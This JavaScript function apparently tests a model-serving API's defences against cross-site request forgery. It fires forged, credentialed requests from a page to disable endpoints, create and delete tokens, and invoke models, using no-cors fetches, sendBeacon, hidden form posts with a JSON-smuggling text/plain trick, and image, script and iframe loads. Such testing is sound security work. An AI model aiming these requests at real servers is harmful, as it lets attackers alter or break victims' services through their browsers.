// What a page can have a visitor's browser send to a server of another origin. `target` is that server,
// `paths` are its routes by name, `token` the identifier of a token to be deleted, `served` and `spare` two models.
// The answer: what the page could read of the answers, by attempt; null where it could not read any.
async ({ target, paths, token, served, spare }) => {
  const model = { registered_model_name: served };
  const changes = [
    ...paths.endpoints.flatMap((base) => [
      ["POST", `${base}/disable`, model],
      ["POST", `${base}/enable`, { registered_model_name: spare }],
      ["PUT", `${base}/update-compute-config`, { ...model, config: { max_batch_rows: 7 } }],
    ]),
    ...paths.tokens.flatMap((base) => [
      ["POST", `${base}/create`, { comment: "forged" }],
      ["POST", `${base}/delete`, { token_id: token }],
    ]),
    ...paths.models.map((base) => ["POST", `${base}/${served}/1/invocations`, { inputs: [[5.1, 3.5, 1.4, 0.2]] }]),
    ...["chat/completions", "responses", "embeddings"].map((path) => [
      "POST",
      `/serving-endpoints/${path}`,
      { model: served, messages: [], input: "a" },
    ]),
    ["POST", `/v2/models/${served}/infer`, { inputs: [] }],
    ...paths.serving.map((base) => [
      "POST",
      base,
      { name: "forged", config: { served_entities: [{ name: "one", entity_name: served, entity_version: "1" }] } },
    ]),
  ];
  const reads = [
    ...paths.endpoints.flatMap((base) => [`${base}/list`, `${base}/get-status?registered_model_name=${served}`]),
    ...paths.tokens.map((base) => `${base}/list`),
    "/serving-endpoints/models",
    ...paths.serving,
    ...paths.models.flatMap((base) => [`${base}/${served}/1/ping`, `${base}/${served}/1/schema`]),
  ];
  const read = {};
  const send = async (label, url, options) => {
    try {
      const response = await fetch(target + url, { credentials: "include", ...options });
      read[`${label} ${url}`] = response.type === "opaque" ? null : `${response.status} ${await response.text()}`;
    } catch {
      read[`${label} ${url}`] = null;
    }
  };
  const query = (fields) =>
    new URLSearchParams(Object.entries(fields).map(([k, v]) => [k, typeof v === "string" ? v : JSON.stringify(v)]));
  const multipart = (fields) => {
    const form = new FormData();
    query(fields).forEach((value, name) => form.set(name, value));
    return form;
  };
  // Whether it loaded, or failed to, before the patience is over.
  const settled = (element) =>
    new Promise((done) => {
      element.onload = element.onerror = () => done(true);
      setTimeout(() => done(false), 5000);
    });
  const loaded = async (element) => {
    const end = settled(element);
    document.body.append(element);
    // What stays is laid out with all that comes after.
    if (await end) element.remove();
  };

  // The forms' answers go to one frame, unless an answer is so late that the next form would cut it off.
  let frame = null;
  const submit = async (url, enctype, fields) => {
    if (!frame) {
      frame = document.createElement("iframe");
      frame.name = `frame${document.querySelectorAll("iframe").length}`;
      const blank = settled(frame);
      document.body.append(Object.assign(frame, { src: "about:blank" }));
      await blank;
    }
    const answers = frame;
    const form = Object.assign(document.createElement("form"), { method: "POST", action: target + url, enctype });
    form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    const answered = settled(answers);
    form.submit();
    if (!(await answered)) frame = null;
    form.remove();
    let text = null;
    try {
      text = answers.contentDocument.body.textContent;
    } catch {
      // Of another origin, as it should be.
    }
    read[`form ${enctype} ${url}`] = text || null;
  };

  for (const [method, url, fields] of changes) {
    const json = JSON.stringify(fields);
    await send("cors json", url, { method, body: json, headers: { "Content-Type": "application/json" } });
    await send("cors text", url, { method, body: json, headers: { "Content-Type": "text/plain" } });
    const plain = { method: "POST", mode: "no-cors" };
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      await send(`no-cors ${type}`, url, { ...plain, body: json, headers: { "Content-Type": type } });
    }
    await send("no-cors without a type", url, { ...plain, body: new Blob([json]) });
    await send("no-cors form", url, { ...plain, body: query(fields) });
    await send("no-cors multipart", url, { ...plain, body: multipart(fields) });
    await send("override", url, { method: "POST", body: json, headers: { "X-HTTP-Method-Override": method } });
    await send("keepalive", url, { ...plain, body: json, keepalive: true });
    navigator.sendBeacon(target + url, json);
    navigator.sendBeacon(target + url, query(fields));
    navigator.sendBeacon(target + url, new Blob([json], { type: "application/json" }));
    for (const enctype of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      await submit(url, enctype, Object.fromEntries(query({ ...fields, _method: method })));
    }
    // A form whose body is JSON: the name of its one field, a sign of equality, and the value.
    await submit(url, "text/plain", { [`${json.slice(0, -1)},"x":"`]: '"}' });
    await loaded(Object.assign(new Image(), { src: `${target}${url}?${query(fields)}` }));
    await loaded(Object.assign(document.createElement("script"), { src: `${target}${url}?${query(fields)}` }));
    await loaded(Object.assign(document.createElement("iframe"), { src: `${target}${url}?${query(fields)}` }));
  }
  for (const url of reads) {
    await send("read", url, {});
    await send("read no-cors", url, { mode: "no-cors" });
    await loaded(Object.assign(document.createElement("script"), { src: target + url }));
  }
  return read;
};
